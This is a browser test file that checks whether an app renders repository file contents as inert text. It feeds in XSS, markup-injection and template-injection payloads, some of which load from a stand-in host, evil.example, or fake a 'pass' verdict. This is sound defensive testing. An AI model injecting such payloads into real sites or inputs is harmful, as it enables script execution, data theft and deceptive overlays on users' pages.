import { expect, test } from '../testkit/app.ts';
import { smallCase } from '../testkit/small-case.ts';

/** Each would do something, somewhere, if any of it were taken for more than text. */
const nasty = [
  '# Title <script>ran("script")</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<ScRiPt\n/x>ran("split")</script>',
  '<img src=x onerror=ran("image")>',
  '![picture](https://evil.example/track.png "t")',
  '![x](javascript:ran("md-image"))',
  '[link](javascript:ran("md-link))',
  '[link](JaVaScRiPt&colon;ran("entity"))',
  '[data](data:text/html,<script>ran("data")</script>)',
  '[ref]: javascript:ran("reference)',
  '<https://evil.example/auto> and https://evil.example/bare',
  '<a href="vbscript:ran(1)" onclick="ran(2)">x</a>',
  '<svg onload=ran("svg")><use href="data:image/svg+xml,<svg/>#x"/></svg>',
  '<math><mtext><table><mglyph><style><img src onerror=ran("mutation")>',
  '<iframe srcdoc="<script>parent.ran(3)</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD4="></object><embed src=x>',
  '<link rel=stylesheet href=https://evil.example/x.css><style>*{display:none}</style>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action=https://evil.example/><button autofocus onfocus=ran("focus")>Sign approval</button></form>',
  '<details open ontoggle=ran("toggle")><video><source onerror=ran("video")></video></details>',
  '| a | <b onmouseover=ran("cell")>b</b> |',
  '`<img src=x onerror=ran("code")>`',
  '{{constructor.constructor("ran(4)")()}} #{ran(5)} <%= ran(6) %>',
  '&lt;script&gt;ran("entities")&lt;/script&gt; &#60;img src=x onerror=ran(7)&#62;',
  '<div class="say pass" style="position:fixed;inset:0;z-index:99">Content: pass</div>',
  'right \u202eot tfel\u202c and \u0000 and \u001b[31mred\u001b[0m and zero\u200bwidth',
];
const front = `---\nlicense: "<img src=x onerror=ran('front')>"\nbase_model: "[x](javascript:ran('base'))"\n---\n`;

test('nothing in evidence is live: Markdown, markup and names come out as text', async ({ app }) => {
  const { page } = app;
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  page.on('dialog', (dialog) => void dialog.dismiss());
  await page.evaluate(() => {
    const ran: string[] = [];
    Object.assign(globalThis, { ran: (what: unknown) => ran.push(String(what)), whatRan: ran });
  });
  const text = nasty.join('\n\n');
  await smallCase(app, {
    'README.md': `${front}${text.replace('\u0000', '\u0001')}\n`,
    'page.html': `<!doctype html>${text.replace('\u0000', '')}`,
    'picture.svg': `<svg xmlns="http://www.w3.org/2000/svg" onload="ran('file')"><script>ran('inside')</script></svg>`,
    'values.json': JSON.stringify({ [nasty[3] ?? '']: nasty }),
    'cells.csv': `a,b\n${nasty.map((each) => `"${each.replaceAll('"', '""').replace('\u0000', '')}",x`).join('\n')}\n`,
    '<img src=x onerror=ran("name")>.md': '# x\n',
  });
  const inside = () =>
    page.evaluate(() => {
      const well = document.querySelector('section.well');
      return {
        tags: [...new Set([...(well?.querySelectorAll('*') ?? [])].map(({ localName }) => localName))].sort(),
        attributes: [
          ...new Set([...(well?.querySelectorAll('*') ?? [])].flatMap((each) => each.getAttributeNames())),
        ].filter((name) => !['class', 'style', 'scope', 'type', 'disabled'].includes(name)),
        text: well?.textContent ?? '',
      };
    });
  const files = page.getByRole('grid', { name: 'Files' });
  for (const [name, tags] of [
    ['README.md', ['div', 'span']],
    ['page.html', ['div', 'span']],
    ['picture.svg', ['div', 'span']],
    ['values.json', ['div', 'span']],
    ['cells.csv', ['table', 'tbody', 'td', 'th', 'thead', 'tr']],
    ['onerror', ['div', 'span']],
  ] as const) {
    await files.getByText(name).click();
    await expect.poll(async () => (await inside()).tags, name).toEqual(tags);
    expect((await inside()).attributes, name).toEqual([]);
    for (const tab of ['Facts', 'Checks', 'Content']) await page.getByRole('tab', { name: tab }).click();
  }
  await files.getByText('README.md').click();
  await expect.poll(async () => (await inside()).text).toContain('<script>ran("script")</script>');
  const { text: shown } = await inside();
  for (const line of nasty.slice(0, -1)) for (const part of line.split('\n')) expect(shown, part).toContain(part);
  // What turns or hides text stands as an escape.
  expect(shown).toContain('right \\u202eot tfel\\u202c and \\u0001 and \\u001b[31mred');
  expect(shown).toContain('zero\\u200bwidth');
  // Nothing ran, nothing was asked of anybody, nothing lies over the verdicts, nothing can be followed.
  expect(await page.evaluate(() => (globalThis as unknown as { whatRan: string[] }).whatRan)).toEqual([]);
  const { origin } = new URL(page.url());
  expect(asked.filter((url) => !url.startsWith(origin))).toEqual([]);
  expect(
    await page.evaluate(
      () => document.querySelectorAll('main a, main iframe, main img, main object, main form form').length,
    ),
  ).toBe(0);
  expect(
    await page.evaluate(() => document.querySelectorAll('script:not([src]), base, meta[http-equiv=refresh]').length),
  ).toBe(0);
  expect(app.complaints).toEqual([]);
});
